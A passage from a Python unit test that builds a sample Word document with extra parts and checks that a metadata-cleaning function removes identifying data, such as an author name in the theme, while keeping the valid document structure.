             "word/theme/theme1.xml": f'<a:theme xmlns:a="{cleaning.A}" name="Chủ đề Mai Anh"/>',
             "word/glossary/document.xml": TAGGED_DOCUMENT,
             "word/glossary/_rels/document.xml.rels": rels.format(_relationship("styles", "styles.xml")),
             "word/glossary/styles.xml": f"<w:styles {word}/>", "word/fonts/font1.odttf": b"\0font",
             "word/media/image 1.png": png.getvalue(),
             "word/_rels/fontTable.xml.rels": rels.format(_relationship("font", "fonts/font1.odttf"))}
    docx = io.BytesIO()
    with zipfile.ZipFile(docx, "w") as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    copy = _unpacked(cleaning.without_identity(io.BytesIO(docx.getvalue()), "docx"))
    assert sorted(copy) == ["[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels",
                            "word/document.xml", "word/fontTable.xml", "word/footer1.xml", "word/header1.xml",
                            "word/media/image1.png", "word/styles.xml", "word/theme/theme1.xml"]
    relationships = copy["word/_rels/document.xml.rels"].decode()
    for target in ("styles.xml", "media/image1.png", "fontTable.xml", "header1.xml", "footer1.xml",
                   "theme/theme1.xml"):
        assert f'Target="{target}"' in relationships, target
    assert "Mai Anh" not in copy["word/theme/theme1.xml"].decode()
    types = copy["[Content_Types].xml"].decode()
    assert 'PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.' \
           'wordprocessingml.header+xml"' in types
